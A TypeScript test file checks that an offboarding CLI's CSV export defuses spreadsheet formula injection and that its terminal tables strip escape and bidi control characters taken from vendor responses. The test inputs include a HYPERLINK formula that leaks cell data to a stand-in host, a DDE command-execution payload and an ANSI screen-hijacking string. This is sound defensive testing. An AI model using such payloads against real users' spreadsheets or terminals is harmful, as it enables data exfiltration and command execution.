import { describe, expect, it } from 'vitest';
import { formatLedger, formatLedgerCsv, formatProgress, formatSummary } from '../../cli/format';
import type { LedgerEntry } from '../../lambdas/shared/ledger';
import { stripControl } from '../../lambdas/shared/text';

/**
 * What the tables and the CSV show of vendors' words. A vendor answers with text we do not
 * control (user ids, error messages): on a terminal it must not move the cursor or recolour
 * the screen, and in a spreadsheet it must not run as a formula.
 */

const ESC = '\u001b';

/** C0 (but the line break between rows), DEL, C1 and the bidi controls. */
function isControl(char: string): boolean {
  const code = char.codePointAt(0) ?? 0;
  return (
    (code < 0x20 && char !== '\n') ||
    (code >= 0x7f && code <= 0x9f) ||
    code === 0x200e ||
    code === 0x200f ||
    (code >= 0x202a && code <= 0x202e) ||
    (code >= 0x2066 && code <= 0x2069)
  );
}

function entry(fields: Partial<LedgerEntry>): LedgerEntry {
  return {
    email: 'jane.doe@example.com',
    connection: 'crm',
    type: 'insightly',
    outcome: 'deactivated',
    dryRun: false,
    userId: '1002',
    at: '2026-11-23T18:49:11.798Z',
    executionId: 'arn:aws:states:local:000000000000:execution:offboard-user:e1',
    ...fields,
  };
}

/** Splits one CSV line into its cells (RFC 4180 quoting). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (c === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

describe('offboard report --format csv', () => {
  it.each([
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
    ['+', '+1+cmd|" /C calc"!A0'],
    ['-', '-2+3'],
    ['@', '@SUM(1,1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('a cell starting with %s gets a leading quote, so no spreadsheet runs it', (_what, text) => {
    // Prepare: a vendor's error message and user id crafted as formulas
    const entries = [
      entry({ userId: text, outcome: 'failed', error: { name: 'Vendor.BadRequest', message: text } }),
    ];
    // Act
    const [, row = ''] = formatLedgerCsv(entries).split('\n');
    // Assess
    const cells = csvCells(row);
    expect(cells[5]).toBe(`'${text}`);
    expect(cells[8]).toBe(`Vendor.BadRequest: ${text}`);
  });

  it('neutralises every column, not only the vendor ones', () => {
    const entries = [entry({ email: '=cmd', connection: '@crm', type: '+t', executionId: '-1' })];
    const cells = csvCells(formatLedgerCsv(entries).split('\n')[1] ?? '');
    expect(cells.slice(1, 4)).toEqual(["'=cmd", "'@crm", "'+t"]);
    expect(cells[7]).toBe("'-1");
  });

  it('keeps ordinary cells as they are, and quotes a cell holding a comma, a quote or a line break', () => {
    const entries = [
      entry({ before: { NAME: 'Doe, Jane', NOTE: 'said "bye"' }, error: { name: 'E', message: 'a\r\nb' } }),
    ];
    const row = formatLedgerCsv(entries).split('\n').slice(1).join('\n');
    expect(
      row.startsWith('2026-11-23T18:49:11.798Z,jane.doe@example.com,crm,insightly,deactivated,1002,false,'),
    ).toBe(true);
    expect(row).toContain('"E: a\r\nb"');
    expect(row).toContain('"{""NAME"":""Doe, Jane"",""NOTE"":""said \\""bye\\""""}"');
  });
});

describe('the tables on a terminal', () => {
  const hostile = `${ESC}[2J${ESC}[31mpwned${ESC}[0m\u202Egnp.exe\u0007\u009b1A`;

  it('formatSummary strips control and bidi characters from user ids and error messages', () => {
    // Act
    const table = formatSummary({
      email: 'jane.doe@example.com',
      dryRun: false,
      status: 'partial',
      connections: [
        { name: 'crm', type: 'insightly', outcome: 'deactivated', userId: hostile },
        {
          name: 'wiki',
          type: 'scim',
          outcome: 'failed',
          error: { name: 'Vendor.BadResponse', message: hostile },
        },
      ],
    });
    // Assess
    expect([...table].filter(isControl)).toEqual([]);
    expect(table).toContain('[2J[31mpwned[0mgnp.exe1A');
    expect(table).toContain('Vendor.BadResponse: [2J[31mpwned[0mgnp.exe1A');
  });

  it('formatLedger does the same for every entry, and a message on many lines stays on one', () => {
    const table = formatLedger('jane.doe@example.com', [
      entry({
        userId: hostile,
        outcome: 'failed',
        error: { name: 'Vendor.BadRequest', message: 'line one\nline two' },
      }),
    ]);
    const lines = table.split('\n');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toContain('Vendor.BadRequest: line one line two');
    expect(table).not.toContain(ESC);
  });

  it('formatProgress shows a failure without control characters', () => {
    expect(
      formatProgress({ connection: 'crm', step: 'Lookup', phase: 'failed', errorName: `X${ESC}[31m` }),
    ).toBe('  crm: Lookup answered X[31m');
  });
});

describe('stripControl', () => {
  it('removes C0, DEL, C1 and the bidi controls; tabs and line breaks become spaces', () => {
    expect(stripControl('a\u0000b\u0007c\u007fd\u0085e\u009bf')).toBe('abcdef');
    expect(
      stripControl('\u200Eleft\u200F \u202Aa\u202Bb\u202Cc\u202Dd\u202Ee \u2066f\u2067g\u2068h\u2069'),
    ).toBe('left abcde fgh');
    expect(stripControl('one\ttwo\r\nthree')).toBe('one two  three');
  });

  it('leaves ordinary text alone, accents and other scripts included', () => {
    const text = 'José Müller, 山田 太郎 <jose@example.com> (id 1002)';
    expect(stripControl(text)).toBe(text);
  });
});
